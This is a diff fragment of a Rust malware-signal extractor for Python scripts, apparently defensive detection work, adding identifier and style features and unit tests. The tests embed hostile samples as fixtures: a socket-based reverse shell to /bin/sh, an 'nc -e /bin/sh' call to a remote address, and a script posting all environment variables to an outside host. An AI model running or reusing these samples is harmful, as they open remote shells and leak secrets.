+            if acc.idents >= 10 {
+                acc.nonascii_idents as f32 / acc.idents as f32 * 4.0
+            } else {
+                0.0
+            },
+        );
         set(&mut dense, "s:ints_layer", b(acc.ints_layer));
 
         // Sparse part: log counts, L2-normalized.
@@ -1235,7 +2085,12 @@ impl Extractor {
 
     /// Features of one text layer; calls `found` for every decodable literal.
     fn layer(&self, text: &[u8], depth: u32, acc: &mut Acc, found: &mut Found<'_>) {
-        acc.groups |= group_bits(text);
+        let lg = group_bits_local(text);
+        acc.groups |= lg.all;
+        acc.combos |= lg.combos;
+        // Dense group signals: a decoded layer counts whole; the script itself by its densest
+        // region, so a large file does not collect every group from unrelated corners.
+        acc.dense_groups |= if depth > 0 { lg.all } else { lg.region };
         let max_out = self.limits.max_decoded;
         // A layer that is itself one bare encoded blob (base64 of base64 ...).
         if depth > 0 {
@@ -1367,9 +2222,27 @@ impl Extractor {
                     }
                     let parts = &parts_buf[..np];
                     acc.idents += parts.len();
+                    if depth == 0 {
+                        acc.top_idents += parts.len();
+                        match parts[0] {
+                            b"def" => acc.defs += 1,
+                            b"self" | b"cls" => acc.selfs += 1,
+                            b"assert" | b"mock" | b"pytest" | b"unittest" | b"monkeypatch"
+                            | b"fixture" | b"assertEqual" | b"assertTrue" | b"patch" => {
+                                acc.tests += 1
+                            }
+                            _ => {}
+                        }
+                        if parts.len() > 1 && parts[1].starts_with(b"assert") {
+                            acc.tests += 1;
+                        }
+                    }
                     for p in parts {
                         if looks_obfuscated_ident(p) {
                             acc.obf_idents += 1;
+                        }
+                        if p.iter().any(|&c| c >= 0x80) {
+                            acc.nonascii_idents += 1;
                         }
                         if p.len() <= 32 {
                             lower_into(&mut low, p);
@@ -1791,6 +2664,61 @@ mod tests {
         assert!(a.not_python.is_none());
         assert!(has_signal(&a, "c:revshell"));
         assert!(has_signal(&a, "g:dup2"));
+    }
+
+    #[test]
+    fn behaviours_must_be_near_each_other() {
+        // Socket and shell within a few lines: a reverse shell.
+        let near = b"import socket,subprocess\ns=socket.socket()\ns.connect(('10.0.0.1',4444))\nsubprocess.call(['/bin/sh','-i'],stdin=s.fileno(),stdout=s.fileno())\n";
+        assert!(has_signal(&Extractor::new().analyze(near), "c:revshell"));
+        assert!(has_signal(
+            &Extractor::new().analyze(near),
+            "c:any_behaviour"
+        ));
+        // The same parts far apart in a large file (a library with a socket helper at the top and
+        // a shell helper at the bottom): no combination.
+        let mut far =
+            b"import socket\ndef connect(h, p):\n    return socket.create_connection((h, p))\n"
+                .to_vec();
+        for i in 0..400 {
+            far.extend_from_slice(format!("def helper_{i}(x):\n    return x + {i}\n").as_bytes());
+        }
+        far.extend_from_slice(b"def interactive():\n    pty.spawn('/bin/sh')\n");
+        let a = Extractor::new().analyze(&far);
+        assert!(!has_signal(&a, "c:revshell"));
+        assert!(!has_signal(&a, "c:any_behaviour"));
+    }
+
+    #[test]
+    fn overlapping_and_quoted_patterns() {
+        // `os.environ.items` counts for both `os.environ` and `environ.items`.
+        let a = Extractor::new().analyze(
+            b"import os, requests\nrequests.post('https://x.example/c', json=dict(os.environ.items()))\n",
+        );
+        assert!(has_signal(&a, "g:environ"));
+        assert!(has_signal(&a, "g:environ_all"));
+        assert!(has_signal(&a, "c:env_dump_send"));
+        // Patterns written with single quotes also match double-quoted code.
+        let a = Extractor::new().analyze(b"import subprocess\nsubprocess.Popen([\"nc\", \"-e\", \"/bin/sh\", \"10.1.2.3\", \"9001\"])\n");
+        assert!(has_signal(&a, "c:revshell_cmd"));
+        assert_eq!(
+            signal_name(signal_index("c:revshell_cmd") as usize),
+            "c:revshell_cmd"
+        );
+    }
+
+    #[test]
+    fn style_rates() {
+        let mut lib = String::from("class Client:\n");
+        for i in 0..20 {
+            lib.push_str(&format!(
+                "    def get_{i}(self, key):\n        return self.store[key]\n"
+            ));
+        }
+        let a = Extractor::new().analyze(lib.as_bytes());
+        assert!(has_signal(&a, "s:def_rate"));
+        assert!(has_signal(&a, "s:self_rate"));
+        assert!(has_signal(&a, "s:indent_rate"));
     }
 
     #[test]
